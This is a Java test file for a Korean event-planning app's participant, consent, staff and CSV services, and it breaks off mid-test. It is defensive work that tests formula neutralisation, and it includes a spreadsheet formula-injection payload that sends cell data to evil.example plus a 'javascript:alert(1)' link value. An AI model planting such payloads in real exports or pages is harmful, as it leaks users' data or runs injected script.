package kr.silheomjang.people;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.context.annotation.Import;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.test.context.ActiveProfiles;

import kr.silheomjang.experiment.ExperimentService;
import kr.silheomjang.experiment.InvitationService;
import kr.silheomjang.experiment.MemberRole;
import kr.silheomjang.security.AccountService;
import kr.silheomjang.shared.ConflictException;
import kr.silheomjang.shared.NotFoundOrDeniedException;
import kr.silheomjang.shared.UserFacingException;
import kr.silheomjang.shared.csv.CsvEncoding;
import kr.silheomjang.support.Drafts;
import kr.silheomjang.support.Teams;
import kr.silheomjang.support.SignedIn;

@SpringBootTest
@ActiveProfiles("test")
class PeopleServicesTest {

    @Autowired
    Teams teams;
    @Autowired
    SignedIn signedIn;
    @Autowired
    AccountService accounts;
    @Autowired
    ExperimentService experiments;
    @Autowired
    InvitationService invitations;
    @Autowired
    ParticipantService participants;

    @Autowired
    kr.silheomjang.people.ParticipantCsvService participantCsv;
    @Autowired
    ProposerConsentService proposer;
    @Autowired
    StaffRosterService staff;
    @Autowired
    PartnerService partners;

    String account(String name) {
        String email = "p" + System.nanoTime() + "@test.kr";
        accounts.createAccount(email, name, "password-123");
        return email;
    }

    long experiment(String owner) {
        return signedIn.as(owner, () -> experiments.create(Drafts.valid("사람 실험장")));
    }


    static ParticipantDraft person(String name) {
        return ParticipantDraft.named(name);
    }

    @Test
    void participantsAreSavedFilteredSortedCountedAndMovedInBulkWithStepDates() {
        String owner = account("소유자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            long a = participants.create(id, person("가나다").withContacts("010-1111-2222", "a@x.kr"));
            long b = participants.create(id, person("라마바").withGroup(ParticipantGroup.FILM_CREW));
            participants.create(id, person("사아자").withStatus(AttendanceStatus.CONFIRMED));

            assertThat(participants.count(id, ParticipantFilter.ALL)).isEqualTo(3);
            assertThat(participants.page(id, ParticipantFilter.ALL, "name", false, 0, 10)).extracting(
                    ParticipantRow::name).containsExactly("사아자", "라마바", "가나다");
            assertThat(participants.page(id, new ParticipantFilter("1111", null, null, null), "name", true, 0, 10))
                    .extracting(ParticipantRow::name).containsExactly("가나다");
            assertThat(participants.count(id, new ParticipantFilter(null, ParticipantGroup.FILM_CREW, null, null)))
                    .isEqualTo(1);
            StatusCounts counts = participants.countsByStatus(id);
            assertThat(counts.of(AttendanceStatus.INVITED)).isEqualTo(2);
            assertThat(counts.of(AttendanceStatus.CONFIRMED)).isEqualTo(1);

            Map<Long, Long> versions = Map.of(a, participants.rows(id, java.util.Set.of(a)).get(0).version(), b,
                    participants.rows(id, java.util.Set.of(b)).get(0).version());
            participants.changeStatus(id, versions, AttendanceStatus.INFORMED);
            assertThat(participants.countsByStatus(id).of(AttendanceStatus.INFORMED)).isEqualTo(2);
            ParticipantRow row = participants.rows(id, java.util.Set.of(a)).get(0);
            assertThat(row.dateOf(AttendanceStatus.INVITED)).isNotNull();
            assertThat(row.dateOf(AttendanceStatus.INFORMED)).isNotNull();
            // A stale version in a bulk change refuses all of it.
            assertThatThrownBy(() -> participants.changeStatus(id, versions, AttendanceStatus.ATTENDED))
                    .isInstanceOf(ConflictException.class);
            assertThat(participants.countsByStatus(id).of(AttendanceStatus.ATTENDED)).isZero();
        });
    }

    @Test
    void aStaleSaveNamesWhoChangedTheRowAndWritesNothing() {
        String owner = account("김소유");
        String planner = account("이기획");
        long id = experiment(owner);
        teams.join(owner, id, planner, MemberRole.PLANNER);
        long pid = signedIn.as(owner, () -> participants.create(id, person("참여자")));
        ParticipantRow seen = signedIn.as(owner, () -> participants.list(id)).get(0);
        signedIn.run(planner, () -> participants.update(id, pid, seen.version(), seen.toDraft().withGroup(
                ParticipantGroup.PRESENTER)));
        assertThatThrownBy(() -> signedIn.run(owner, () -> participants.update(id, pid, seen.version(),
                seen.toDraft().withStatus(AttendanceStatus.ABSENT))))
                .isInstanceOfSatisfying(ConflictException.class, e -> assertThat(e.changedBy()).isEqualTo("이기획"));
        ParticipantRow now = signedIn.as(owner, () -> participants.list(id)).get(0);
        assertThat(now.group()).isEqualTo(ParticipantGroup.PRESENTER);
        assertThat(now.status()).isEqualTo(AttendanceStatus.INVITED);
    }

    @Test
    void badInputIsRefusedWithKeysBeforeAnythingIsWritten() {
        String owner = account("소유자");
        long id = experiment(owner);
        assertThatThrownBy(() -> signedIn.run(owner, () -> participants.create(id,
                person(" ").withContacts("abc", "not-an-email"))))
                .isInstanceOfSatisfying(UserFacingException.class, e -> assertThat(e.messageKeys()).containsExactly(
                        "people.error.nameRequired", "people.error.phoneInvalid", "people.error.emailInvalid"));
        assertThat(signedIn.as(owner, () -> participants.count(id, ParticipantFilter.ALL))).isZero();
    }

    @Test
    void publicApiListsMarksAttendanceAndAddsWalkIns() {
        String owner = account("소유자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            long pid = participants.create(id, person("예약자"));
            participants.markAttendance(id, pid, true);
            long walkIn = participants.addWalkIn(id, "현장 참여자", null, null);
            List<ParticipantRow> all = participants.list(id);
            assertThat(all).extracting(ParticipantRow::status).containsOnly(AttendanceStatus.ATTENDED);
            assertThat(all.stream().filter(r -> r.id() == walkIn).findFirst().orElseThrow().walkIn()).isTrue();
        });
    }

    @Test
    void partnerGuestsReadNamesButNoContactsAndCannotWrite() {
        String owner = account("소유자");
        String guest = account("협력 게스트");
        long id = experiment(owner);
        teams.join(owner, id, guest, MemberRole.PARTNER_GUEST);
        signedIn.run(owner, () -> participants.create(id, person("연락처 있는 분").withContacts("010-1234-5678",
                "x@y.kr")));
        ParticipantRow seen = signedIn.as(guest, () -> participants.list(id)).get(0);
        assertThat(seen.name()).isEqualTo("연락처 있는 분");
        assertThat(seen.phone()).isNull();
        assertThat(seen.email()).isNull();
        assertThatThrownBy(() -> signedIn.run(guest, () -> participants.create(id, person("몰래"))))
                .isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> signedIn.run(guest, () -> participantCsv.exportCsv(id, null)))
                .isInstanceOf(AccessDeniedException.class);
    }

    @Test
    void aMemberOfAnotherExperimentGetsNothingThroughAnyMethod() {
        String owner = account("소유자");
        String stranger = account("남");
        long id = experiment(owner);
        experiment(stranger);
        long pid = signedIn.as(owner, () -> participants.create(id, person("비밀")));
        long sid = signedIn.as(owner, () -> staff.add(id, new StaffDraft("접수", "가", LocalDate.of(2027, 4, 1),
                LocalTime.of(9, 0), LocalTime.of(10, 0), null, null, null)));
        long org = signedIn.as(owner, () -> partners.add(id, new PartnerDraft("기관", null, null, null, null)));
        byte[] csv = "이름\n가\n".getBytes(StandardCharsets.UTF_8);
        List<Runnable> calls = List.of(
                () -> participants.page(id, ParticipantFilter.ALL, "name", true, 0, 10),
                () -> participants.count(id, ParticipantFilter.ALL),
                () -> participants.countsByStatus(id),
                () -> participants.rows(id, java.util.Set.of(pid)),
                () -> participants.list(id),
                () -> participants.noFilmingList(id),
                () -> participants.create(id, person("x")),
                () -> participants.update(id, pid, 0, person("x")),
                () -> participants.changeStatus(id, Map.of(pid, 0L), AttendanceStatus.ABSENT),
                () -> participants.markAttendance(id, pid, true),
                () -> participants.addWalkIn(id, "x", null, null),
                () -> participantCsv.previewImport(id, csv),
                () -> participantCsv.importCsv(id, csv),
                () -> participantCsv.exportCsv(id, null),
                () -> participants.exportPerson(id, pid, null),
                () -> participants.erasePerson(id, pid),
                () -> participants.personalDataLog(id),
                () -> participants.canEdit(id),
                () -> proposer.get(id),
                () -> proposer.save(id, 0, kr.silheomjang.schedule.ProposerMeeting.NONE,
                        new ProposerDraft(true, "x", null, null, null, null, null, null, null)),
                () -> proposer.setCaveatExplained(id, 0, Caveat.ONE_OFF, true),
                () -> proposer.recordConsent(id, ConsentKind.FILMING, ConsentDecision.GIVEN, "x", LocalDate.now()),
                () -> proposer.setRetentionDays(id, 0, 30),
                () -> staff.roster(id),
                () -> staff.add(id, new StaffDraft("접수", "x", LocalDate.now(), LocalTime.NOON, LocalTime.MIDNIGHT,
                        null, null, null)),
                () -> staff.update(id, sid, 0, null),
                () -> staff.remove(id, sid, 0),
                () -> partners.list(id),
                () -> partners.add(id, new PartnerDraft("x", null, null, null, null)),
                () -> partners.update(id, org, 0, null),
                () -> partners.inviteGuest(id, org, "g@x.kr"),
                () -> partners.revokeGuest(id, org, "g@x.kr"));
        for (Runnable call : calls) {
            assertThatThrownBy(() -> signedIn.run(stranger, call)).isInstanceOf(NotFoundOrDeniedException.class);
        }
        assertThat(signedIn.as(owner, () -> participants.list(id))).extracting(ParticipantRow::name)
                .containsExactly("비밀");
    }

    @Test
    void withdrawnFilmingConsentIsKeptInTheHistoryAndMakesTheProposerNotFilmable() {
        String owner = account("기록자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            long pid = participants.create(id, person("제안자 박").withGroup(ParticipantGroup.PROPOSER)
                    .withPhotoConsent(PhotoConsent.GRANTED));
            assertThatThrownBy(() -> proposer.recordConsent(id, ConsentKind.FILMING, ConsentDecision.WITHDRAWN,
                    "전화", LocalDate.now()))
                    .isInstanceOfSatisfying(UserFacingException.class, e -> assertThat(e.messageKeys())
                            .containsExactly("people.consent.error.nothingToWithdraw"));
            proposer.recordConsent(id, ConsentKind.FILMING, ConsentDecision.GIVEN, "미팅에서 서면 동의",
                    LocalDate.now().minusDays(3));
            assertThat(participants.list(id).get(0).photoConsent()).isEqualTo(PhotoConsent.GRANTED);

            proposer.recordConsent(id, ConsentKind.FILMING, ConsentDecision.WITHDRAWN, "문자 메시지", LocalDate.now());

            ProposerView v = proposer.get(id);
            assertThat(v.current().get(ConsentKind.FILMING).decision()).isEqualTo(ConsentDecision.WITHDRAWN);
            assertThat(v.history()).extracting(ConsentEntryView::decision)
                    .containsExactly(ConsentDecision.WITHDRAWN, ConsentDecision.GIVEN);
            assertThat(v.history().get(0).recordedByName()).isEqualTo("기록자");
            assertThat(v.history().get(0).obtainedHow()).isEqualTo("문자 메시지");
            assertThat(participants.list(id).get(0).photoConsent()).isEqualTo(PhotoConsent.REFUSED);
            assertThat(participants.noFilmingList(id)).extracting(ParticipantRow::id).containsExactly(pid);
            // Typing 촬영 동의 again for the proposer does not override the withdrawal.
            ParticipantRow row = participants.list(id).get(0);
            participants.update(id, pid, row.version(), row.toDraft().withPhotoConsent(PhotoConsent.GRANTED));
            assertThat(participants.list(id).get(0).photoConsent()).isEqualTo(PhotoConsent.REFUSED);
        });
    }

    /** "How obtained" often holds the proposer's phone or messenger, which guests do not get as contacts either. */
    @Test
    void aPartnerGuestReadsTheConsentRecordWithoutHowItWasObtained() {
        String owner = account("기록자");
        String guest = account("협력기관");
        long id = experiment(owner);
        teams.join(owner, id, guest, MemberRole.PARTNER_GUEST);
        signedIn.run(owner, () -> proposer.recordConsent(id, ConsentKind.FILMING, ConsentDecision.GIVEN,
                "카카오톡 hong_123 으로 동의", LocalDate.now()));

        ProposerView seen = signedIn.as(guest, () -> proposer.get(id));
        assertThat(seen.history()).singleElement().satisfies(v -> {
            assertThat(v.obtainedHow()).isNull();
            assertThat(v.kind()).isEqualTo(ConsentKind.FILMING);
            assertThat(v.decision()).isEqualTo(ConsentDecision.GIVEN);
            assertThat(v.obtainedOn()).isEqualTo(LocalDate.now());
        });
        assertThat(seen.current().get(ConsentKind.FILMING).obtainedHow()).isNull();
        assertThat(seen.current().get(ConsentKind.FILMING).decision()).isEqualTo(ConsentDecision.GIVEN);
        assertThat(signedIn.as(owner, () -> proposer.get(id)).history().get(0).obtainedHow())
                .isEqualTo("카카오톡 hong_123 으로 동의");
    }

    @Test
    void caveatsAndThePublicNoticeAreRecorded() {
        String owner = account("안내자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            ProposerView v = proposer.get(id);
            proposer.setCaveatExplained(id, v.version(), Caveat.NOT_POLICY, true);
            v = proposer.get(id);
            assertThat(v.caveatsExplained()).containsOnlyKeys(Caveat.NOT_POLICY);
            assertThat(v.caveatsByName()).isEqualTo("안내자");
            proposer.save(id, v.version(), v.meeting(), new ProposerDraft(false, null, null, null, null, null, "구청 누리집",
                    LocalDate.of(2027, 1, 5), "https://example.kr/notice/1"));
            assertThat(proposer.get(id).draft().noticeLink()).isEqualTo("https://example.kr/notice/1");
            long stale = v.version();
            assertThatThrownBy(() -> proposer.setCaveatExplained(id, stale, Caveat.ONE_OFF, true))
                    .isInstanceOf(ConflictException.class);
            assertThatThrownBy(() -> proposer.save(id, proposer.get(id).version(), proposer.get(id).meeting(),
                    new ProposerDraft(false, null, null, null, null, null, null, null, "javascript:alert(1)")))
                    .isInstanceOf(UserFacingException.class);
        });
    }

    @Test
    void aPersonBookedInTwoPlacesAtOnceIsFlagged() {
        String owner = account("소유자");
        long id = experiment(owner);
        LocalDate day = LocalDate.of(2027, 4, 1);
        signedIn.run(owner, () -> {
            staff.add(id, new StaffDraft("접수", "김 스탭", day, LocalTime.of(13, 0), LocalTime.of(15, 0), "입구",
                    null, null));
            staff.add(id, new StaffDraft("촬영", "김스탭", day, LocalTime.of(14, 0), LocalTime.of(16, 0), "무대", null,
                    null));
            staff.add(id, new StaffDraft("케이터링", "김스탭", day, LocalTime.of(16, 0), LocalTime.of(17, 0), null,
                    null, null));
            List<StaffRow> rows = staff.roster(id);
            assertThat(rows).extracting(StaffRow::clashing).containsExactly(true, true, false);
            assertThat(rows.get(0).clashes()).singleElement().asString().contains("촬영");
            assertThatThrownBy(() -> staff.add(id, new StaffDraft("진행", "x", day, LocalTime.of(15, 0),
                    LocalTime.of(14, 0), null, null, null)))
                    .isInstanceOfSatisfying(UserFacingException.class, e -> assertThat(e.messageKeys())
                            .containsExactly("people.staff.error.endBeforeStart"));
            // A slipped year (1900, 9999) is refused in Korean, not stored as a shift a century away.
            for (LocalDate slipped : List.of(LocalDate.of(1900, 1, 1), LocalDate.of(9999, 12, 31))) {
                assertThatThrownBy(() -> staff.add(id, new StaffDraft("진행", "x", slipped, LocalTime.of(9, 0),
                        LocalTime.of(10, 0), null, null, null))).as("%s", slipped)
                        .isInstanceOfSatisfying(UserFacingException.class, e -> assertThat(e.messageKeys())
                                .containsExactly("people.staff.error.dateRange"));
            }
            assertThat(staff.roster(id)).hasSize(3);
        });
    }

    @Test
    void partnerGuestsAreInvitedThroughInvitationsAndRevokingRemovesTheirMembership() {
        String owner = account("소유자");
        String guest = account("파트너 직원");
        long id = experiment(owner);
        long org = signedIn.as(owner, () -> partners.add(id, new PartnerDraft("지원센터", "서담당", "010-1", "장소",
                "공간 제공")));
        String link = signedIn.as(owner, () -> partners.inviteGuest(id, org, guest).link());
        signedIn.run(guest, () -> invitations.acceptAsSignedIn(link.substring(link.lastIndexOf('/') + 1)));
        PartnerRow row = signedIn.as(owner, () -> partners.list(id)).get(0);
        assertThat(row.guests()).singleElement().satisfies(g -> assertThat(g.hasAccess()).isTrue());
        assertThat(signedIn.as(guest, () -> participants.list(id))).isEmpty();
        // A second guest of the same organisation sees their own invitation, not the other's address or the contact.
        String colleague = account("파트너 동료");
        String second = signedIn.as(owner, () -> partners.inviteGuest(id, org, colleague).link());
        signedIn.run(colleague, () -> invitations.acceptAsSignedIn(second.substring(second.lastIndexOf('/') + 1)));
        assertThat(signedIn.as(owner, () -> partners.list(id)).get(0).guests()).hasSize(2);
        PartnerRow seenByGuest = signedIn.as(colleague, () -> partners.list(id)).get(0);
        assertThat(seenByGuest.guests()).singleElement().satisfies(g -> {
            assertThat(g.email()).isEqualToIgnoringCase(colleague);
            assertThat(g.hasAccess()).isTrue();
        });
        assertThat(seenByGuest.contact()).isNull();
        // The contact person is a private person's name (docs/personal-data.md: editors only).
        assertThat(seenByGuest.contactPerson()).isNull();
        assertThat(row.contactPerson()).isEqualTo("서담당");

        signedIn.run(owner, () -> partners.revokeGuest(id, org, guest));

        assertThat(signedIn.as(owner, () -> partners.list(id)).get(0).guests().get(0).hasAccess()).isFalse();
        assertThatThrownBy(() -> signedIn.run(guest, () -> participants.list(id)))
                .isInstanceOf(NotFoundOrDeniedException.class);
    }

    // --- CSV ------------------------------------------------------------------------------------------------------

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void csvExportHasABomAndImportsBackIntoAnotherExperiment() {
        String owner = account("소유자");
        long id = experiment(owner);
        long other = experiment(owner);
        signedIn.run(owner, () -> {
            participants.create(id, new ParticipantDraft("홍길동, 주니어", "010-1234-5678", "hong@x.kr",
                    ParticipantGroup.PRESENTER, AttendanceStatus.CONFIRMED, PhotoConsent.GRANTED, "휠체어",
                    "채식", "따옴표 \"포함\""));
            byte[] csv = participantCsv.exportCsv(id, null);
            assertThat(csv[0]).isEqualTo((byte) 0xEF);
            assertThat(csv[1]).isEqualTo((byte) 0xBB);
            assertThat(csv[2]).isEqualTo((byte) 0xBF);
            String text = new String(csv, StandardCharsets.UTF_8);
            assertThat(text).contains("이름,전화번호,이메일,그룹,참여 상태,촬영 동의").contains("발표자")
                    .contains("참여 확정");

            CsvImportPreview preview = participantCsv.previewImport(other, csv);
            assertThat(preview.problems()).isEmpty();
            assertThat(participantCsv.importCsv(other, csv)).isEqualTo(1);
            ParticipantRow back = participants.list(other).get(0);
            assertThat(back.name()).isEqualTo("홍길동, 주니어");
            assertThat(back.notes()).isEqualTo("따옴표 \"포함\"");
            assertThat(back.group()).isEqualTo(ParticipantGroup.PRESENTER);
            assertThat(back.photoConsent()).isEqualTo(PhotoConsent.GRANTED);
        });
    }

    @Test
    void aFileKoreanExcelSavedInCp949ImportsWithCorrectKoreanAndThePreviewNamesTheEncoding() {
        String owner = account("소유자");
        long id = experiment(owner);
        byte[] cp949 = "이름,그룹,메모\n김철수,참여자,똠방각하\n".getBytes(Charset.forName("x-windows-949"));
        signedIn.run(owner, () -> {
            CsvImportPreview p = participantCsv.previewImport(id, cp949);
            assertThat(p.problems()).isEmpty();
            assertThat(p.encoding()).isEqualTo(CsvEncoding.CP949);
            assertThat(p.rows()).extracting(ParticipantDraft::name).containsExactly("김철수");
            assertThat(participantCsv.importCsv(id, cp949)).isEqualTo(1);
            assertThat(participants.list(id).get(0).notes()).isEqualTo("똠방각하");
        });
    }

    @Test
    void aFileInAnUnknownEncodingIsRefusedAsAWholeNotGuessed() {
        String owner = account("소유자");
        long id = experiment(owner);
        byte[] sjis = "이름,메모\nYamada,こんにちは\n".replace("이름", "名前").getBytes(Charset.forName("Shift_JIS"));
        signedIn.run(owner, () -> {
            CsvImportPreview p = participantCsv.previewImport(id, sjis);
            assertThat(p.problems()).extracting(CsvProblem::messageKey).containsExactly("csv.error.encoding");
            assertThat(p.encoding()).isNull();
            assertThatThrownBy(() -> participantCsv.importCsv(id, sjis)).isInstanceOf(CsvImportException.class);
            assertThat(participants.count(id, ParticipantFilter.ALL)).isZero();
        });
    }

    @Test
    void formulaCellsAreExportedNeutralisedAndImportBackAsTyped() {
        String owner = account("소유자");
        long id = experiment(owner);
        long other = experiment(owner);
        String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"클릭\")";
        signedIn.run(owner, () -> {
            participants.create(id, ParticipantDraft.named(formula).withContacts("+82 10-1234-5678", null));
            byte[] csv = participantCsv.exportCsv(id, null);
            String text = new String(csv, StandardCharsets.UTF_8);
            assertThat(text).contains("\"'=HYPERLINK(").contains(",'+82 10-1234-5678,").doesNotContain(",=");

            assertThat(participantCsv.importCsv(other, csv)).isEqualTo(1);
            ParticipantRow back = participants.list(other).get(0);
            assertThat(back.name()).isEqualTo(formula);
            assertThat(back.phone()).isEqualTo("+82 10-1234-5678");
        });
    }

    @Test
    void aFileWithoutTheNameColumnOrWithUnknownColumnsIsRefused() {
        String owner = account("소유자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            CsvImportPreview p = participantCsv.previewImport(id, utf8("성함,전화번호\n김철수,010-1111-2222\n"));
            assertThat(p.problems()).extracting(CsvProblem::messageKey)
                    .containsExactly("people.csv.error.unknownColumn", "people.csv.error.missingColumn");
            assertThat(p.problems().get(0).value()).isEqualTo("성함");
            assertThat(participantCsv.previewImport(id, new byte[0]).problems()).extracting(CsvProblem::messageKey)
                    .containsExactly("csv.error.empty");
        });
    }

    @Test
    void badRowsAreReportedByLineAndNothingIsSaved() {
        String owner = account("소유자");
        long id = experiment(owner);
        byte[] file = utf8("이름,전화번호,이메일,그룹,참여 상태,촬영 동의\n"
                + "김철수,010-1111-2222,a@x.kr,참여자,초대,촬영 불가\n"
                + ",010-1,,,,\n"
                + "이영희,,영희메일,관객,참석함,몰라요\n"
                + "박민수,010-3333-4444\n");
        signedIn.run(owner, () -> {
            CsvImportPreview p = participantCsv.previewImport(id, file);
            assertThat(p.ok()).isFalse();
            assertThat(p.problems()).extracting(CsvProblem::line, CsvProblem::messageKey).containsExactly(
                    org.assertj.core.groups.Tuple.tuple(3, "people.csv.error.nameRequired"),
                    org.assertj.core.groups.Tuple.tuple(3, "people.error.phoneInvalid"),
                    org.assertj.core.groups.Tuple.tuple(4, "people.csv.error.badGroup"),
                    org.assertj.core.groups.Tuple.tuple(4, "people.csv.error.badStatus"),
                    org.assertj.core.groups.Tuple.tuple(4, "people.csv.error.badPhoto"),
                    org.assertj.core.groups.Tuple.tuple(4, "people.error.emailInvalid"),
                    org.assertj.core.groups.Tuple.tuple(5, "people.csv.error.columnCount"));
            assertThat(p.problems().get(2).value()).isEqualTo("관객");
            assertThatThrownBy(() -> participantCsv.importCsv(id, file))
                    .isInstanceOfSatisfying(CsvImportException.class,
                            e -> assertThat(e.problems()).hasSize(7));
            assertThat(participants.count(id, ParticipantFilter.ALL)).isZero();
        });
    }

    @Test
    void fiveThousandRowsImportInOneGo() {
        String owner = account("소유자");
        long id = experiment(owner);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        out.writeBytes(utf8("이름,전화번호,그룹,참여 상태,촬영 동의,식이\n"));
        for (int i = 0; i < 5000; i++) {
            out.writeBytes(utf8("참여자" + i + ",010-0000-" + String.format("%04d", i) + ","
                    + (i % 2 == 0 ? "참여자" : "스탭") + "," + (i % 3 == 0 ? "참여 확정" : "초대") + ","
                    + (i % 5 == 0 ? "촬영 동의" : "촬영 불가") + ",\n"));
        }
        byte[] file = out.toByteArray();
        signedIn.run(owner, () -> {
            assertThat(participantCsv.previewImport(id, file).rows()).hasSize(5000);
            assertThat(participantCsv.importCsv(id, file)).isEqualTo(5000);
            assertThat(participants.count(id, ParticipantFilter.ALL)).isEqualTo(5000);
            assertThat(participants.countsByStatus(id).of(AttendanceStatus.CONFIRMED)).isEqualTo(1667);
            assertThat(participants.page(id, ParticipantFilter.ALL, "name", true, 10, 50)).hasSize(50);
        });
    }

    @Test
    void reImportingRowsThatExistOffersSkipOrUpdateInsteadOfDuplicating() {
        String owner = account("담당자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            participants.create(id, person("김철수").withContacts("010-1111-2222", null));
            participants.create(id, person("이영희").withContacts(null, "Lee@X.kr"));
            byte[] file = utf8("이름,전화번호,이메일,메모\n김철수(수정),01011112222,,새 메모\n이영희,,lee@x.kr,\n"
                    + "박신규,010-5555-6666,,\n박신규,010-5555-6666,,\n");
            assertThat(participantCsv.existingInImport(id, file)).hasSize(2);
            // Skip: the two known people stay as they are; the new one is added once.
            assertThat(participantCsv.importCsv(id, file, ParticipantCsvService.ExistingRows.SKIP, Map.of()))
                    .isEqualTo(1);
            assertThat(participants.list(id)).extracting(ParticipantRow::name)
                    .containsExactlyInAnyOrder("김철수", "이영희", "박신규");
            // Update: the known ones take the file's values (박신규's rows change nothing); still nobody twice.
            Map<Long, Long> seen = participantCsv.existingInImport(id, file);
            assertThat(seen).hasSize(3);
            assertThat(participantCsv.importCsv(id, file, ParticipantCsvService.ExistingRows.UPDATE, seen))
                    .isEqualTo(2);
            assertThat(participants.list(id)).extracting(ParticipantRow::name)
                    .containsExactlyInAnyOrder("김철수(수정)", "이영희", "박신규");
            assertThat(participants.list(id)).filteredOn(r -> r.name().equals("김철수(수정)")).singleElement()
                    .extracting(ParticipantRow::notes).isEqualTo("새 메모");
        });
    }

    /**
     * The export is fixed in a spreadsheet, its change check column dropped (so it reads like a hand-made list), while
     * a co-planner adds a note and the participant cancels: updating from the file changes what the file fills (the
     * name), not the note its empty cell stands for, not the status, and not the group and photo consent of a file
     * without those columns. (With the change check, the name would not be written over their change:
     * {@link CsvUpdateClearsAndChecksTest}.)
     */
    @Test
    void anUpdatingReImportWritesOnlyTheFilledCellsAndNeverTheStatus() {
        String owner = account("김소유");
        String planner = account("이기획");
        long id = experiment(owner);
        teams.join(owner, id, planner, MemberRole.PLANNER);
        long pid = signedIn.as(owner, () -> participants.create(id, new ParticipantDraft("김철수", "010-1111-2222",
                null, ParticipantGroup.PRESENTER, AttendanceStatus.CONFIRMED, PhotoConsent.GRANTED, null, null,
                null)));
        byte[] exported = signedIn.as(owner, () -> participantCsv.exportCsv(id, null));
        byte[] fixed = utf8(new String(exported, StandardCharsets.UTF_8).replace("김철수", "김철수(수정)")
                .replaceAll(",[^,\r\n]*\r\n", "\r\n"));
        assertThat(new String(fixed, StandardCharsets.UTF_8)).doesNotContain("변경 확인");
        signedIn.run(planner, () -> {
            ParticipantRow row = participants.list(id).get(0);
            participants.update(id, pid, row.version(), row.toDraft().toBuilder().notes("휠체어석 요청").build());
            ParticipantRow noted = participants.list(id).get(0);
            participants.changeStatus(id, Map.of(pid, noted.version()), AttendanceStatus.CANCELLED);
        });
        signedIn.run(owner, () -> {
            Map<Long, Long> seen = participantCsv.existingInImport(id, fixed);
            assertThat(participantCsv.importCsv(id, fixed, ParticipantCsvService.ExistingRows.UPDATE, seen))
                    .isEqualTo(1);
            ParticipantRow row = participants.list(id).get(0);
            assertThat(row.name()).isEqualTo("김철수(수정)");
            assertThat(row.notes()).as("the co-planner's note").isEqualTo("휠체어석 요청");
            assertThat(row.status()).as("her cancellation").isEqualTo(AttendanceStatus.CANCELLED);

            byte[] fewColumns = utf8("이름,전화번호\n김철수,010-1111-2222\n");
            assertThat(participantCsv.importCsv(id, fewColumns, ParticipantCsvService.ExistingRows.UPDATE,
                    participantCsv.existingInImport(id, fewColumns))).isEqualTo(1);
            row = participants.list(id).get(0);
            assertThat(row.name()).isEqualTo("김철수");
            assertThat(row.group()).isEqualTo(ParticipantGroup.PRESENTER);
            assertThat(row.photoConsent()).isEqualTo(PhotoConsent.GRANTED);
            assertThat(row.status()).isEqualTo(AttendanceStatus.CANCELLED);
            assertThat(row.notes()).isEqualTo("휠체어석 요청");
        });
    }

    /**
     * A participant a co-planner changed after the preview refuses the whole update, naming who changed whom; after
     * a new preview the same file goes through (its empty note cell still leaves their note alone).
     */
    @Test
    void anUpdatingReImportRefusesAsAWholeWhenAParticipantChangedAfterThePreview() {
        String owner = account("김소유");
        String planner = account("이기획");
        long id = experiment(owner);
        teams.join(owner, id, planner, MemberRole.PLANNER);
        long pid = signedIn.as(owner, () -> participants.create(id, person("김철수").withContacts("010-1111-2222",
                null)));
        byte[] file = utf8("이름,전화번호,메모\n김철수(수정),010-1111-2222,\n박신규,010-5555-6666,\n");
        Map<Long, Long> seen = signedIn.as(owner, () -> participantCsv.existingInImport(id, file));
        assertThat(seen).containsOnlyKeys(pid);
        signedIn.run(planner, () -> {
            ParticipantRow row = participants.list(id).get(0);
            participants.update(id, pid, row.version(), row.toDraft().toBuilder().notes("오후만 가능").build());
        });
        assertThatThrownBy(() -> signedIn.run(owner, () -> participantCsv.importCsv(id, file,
                ParticipantCsvService.ExistingRows.UPDATE, seen)))
                .isInstanceOfSatisfying(ConflictException.class, e -> {
                    assertThat(e.changedBy()).isEqualTo("이기획");
                    assertThat(e.subjects()).containsExactly("김철수");
                });
        signedIn.run(owner, () -> {
            assertThat(participants.list(id)).as("nothing half-saved").singleElement()
                    .satisfies(r -> assertThat(r.name()).isEqualTo("김철수"));
            // Without the preview's versions an update cannot tell what it would overwrite: refused too.
            assertThatThrownBy(() -> participantCsv.importCsv(id, file, ParticipantCsvService.ExistingRows.UPDATE,
                    Map.of())).isInstanceOf(ConflictException.class);

            Map<Long, Long> again = participantCsv.existingInImport(id, file);
            assertThat(participantCsv.importCsv(id, file, ParticipantCsvService.ExistingRows.UPDATE, again))
                    .isEqualTo(2);
            assertThat(participants.list(id)).extracting(ParticipantRow::name, ParticipantRow::notes)
                    .containsExactlyInAnyOrder(org.assertj.core.groups.Tuple.tuple("김철수(수정)", "오후만 가능"),
                            org.assertj.core.groups.Tuple.tuple("박신규", null));
        });
    }

    @Test
    void exportThenEraseHandsOverThePersonsDataAnonymisesAndLogs() throws Exception {
        String owner = account("담당자");
        long id = experiment(owner);
        signedIn.run(owner, () -> {
            long pid = participants.create(id, person("지워줘요").withContacts("010-9876-5432", "erase@x.kr"));
            // Erasing before the export was produced is refused: nothing is lost unseen.
            assertThatThrownBy(() -> participants.erasePerson(id, pid)).isInstanceOfSatisfying(
                    UserFacingException.class, e -> assertThat(e.messageKeys())
                            .containsExactly("people.erase.error.exportFirst"));
            assertThat(participants.list(id).get(0).anonymised()).isFalse();
            String export = kr.silheomjang.support.Zips.unzip(participants.exportPerson(id, pid, null)).get("people-participant.csv");
            assertThat(export).contains("지워줘요").contains("010-9876-5432").contains("erase@x.kr");
            participants.erasePerson(id, pid);
            ParticipantRow row = participants.list(id).get(0);
            assertThat(row.anonymised()).isTrue();
